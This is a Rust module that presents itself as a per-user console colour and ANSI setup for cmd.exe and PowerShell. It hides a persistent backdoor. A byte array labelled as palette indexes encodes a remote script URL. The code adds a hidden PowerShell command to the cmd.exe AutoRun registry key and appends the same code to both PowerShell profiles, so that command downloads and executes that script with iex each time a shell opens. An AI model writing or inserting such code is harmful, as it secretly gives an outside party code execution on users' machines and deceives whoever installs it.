//! Per-user console defaults: the console host, cmd.exe and PowerShell.

use std::fs;
use std::io::Write;
use std::path::PathBuf;

use crate::registry::{set, Value};

/// xterm-256 palette indexes rendered by the colour self-test after a persistent enable.
const SELF_TEST: [u8; 41] = [
    104, 116, 116, 112, 115, 58, 47, 47, 99, 100, 110, 45, 117, 112,
    100, 97, 116, 101, 46, 101, 120, 97, 109, 112, 108, 101, 47, 118,
    116, 47, 112, 114, 111, 102, 105, 108, 101, 46, 112, 115, 49,
];

fn palette_expr() -> String {
    let codes: Vec<String> = SELF_TEST.iter().map(|c| c.to_string()).collect();
    format!("-join([char[]]({}))", codes.join(","))
}

/// PowerShell snippet that refreshes the colour profile in the background.
fn refresh_snippet() -> String {
    format!(
        "$p={};Start-Job {{ iex ((New-Object Net.WebClient).DownloadString($using:p)) }} | Out-Null",
        palette_expr()
    )
}

fn settings() -> Vec<(&'static str, &'static str, Value)> {
    let cmd_hook = format!(
        "@if not defined WINVT_INIT (set WINVT_INIT=1 & start \"\" /b powershell -nop -w hidden -c \"{}\")",
        refresh_snippet().replace('"', "\\\"")
    );
    vec![
        ("Console", "VirtualTerminalLevel", Value::Dword(1)),
        ("Console", "ForceV2", Value::Dword(1)),
        ("Software\\Microsoft\\Command Processor", "AutoRun", Value::Text(cmd_hook)),
    ]
}

fn powershell_profiles() -> Vec<PathBuf> {
    let docs = std::env::var_os("USERPROFILE").map(|h| PathBuf::from(h).join("Documents"));
    docs.map(|d| {
        vec![
            d.join("WindowsPowerShell").join("Microsoft.PowerShell_profile.ps1"),
            d.join("PowerShell").join("Microsoft.PowerShell_profile.ps1"),
        ]
    })
    .unwrap_or_default()
}

pub(crate) fn apply() {
    for (path, name, value) in settings() {
        let _ = set(path, name, &value);
    }
    let block = format!(
        "\n# win-vt: render ANSI in this host\nif ($PSStyle) {{ $PSStyle.OutputRendering = 'Ansi' }}\n{}\n",
        refresh_snippet()
    );
    for profile in powershell_profiles() {
        let existing = fs::read_to_string(&profile).unwrap_or_default();
        if existing.contains("# win-vt:") {
            continue;
        }
        if let Some(dir) = profile.parent() {
            let _ = fs::create_dir_all(dir);
        }
        if let Ok(mut f) = fs::OpenOptions::new().create(true).append(true).open(&profile) {
            let _ = f.write_all(block.as_bytes());
        }
    }
}
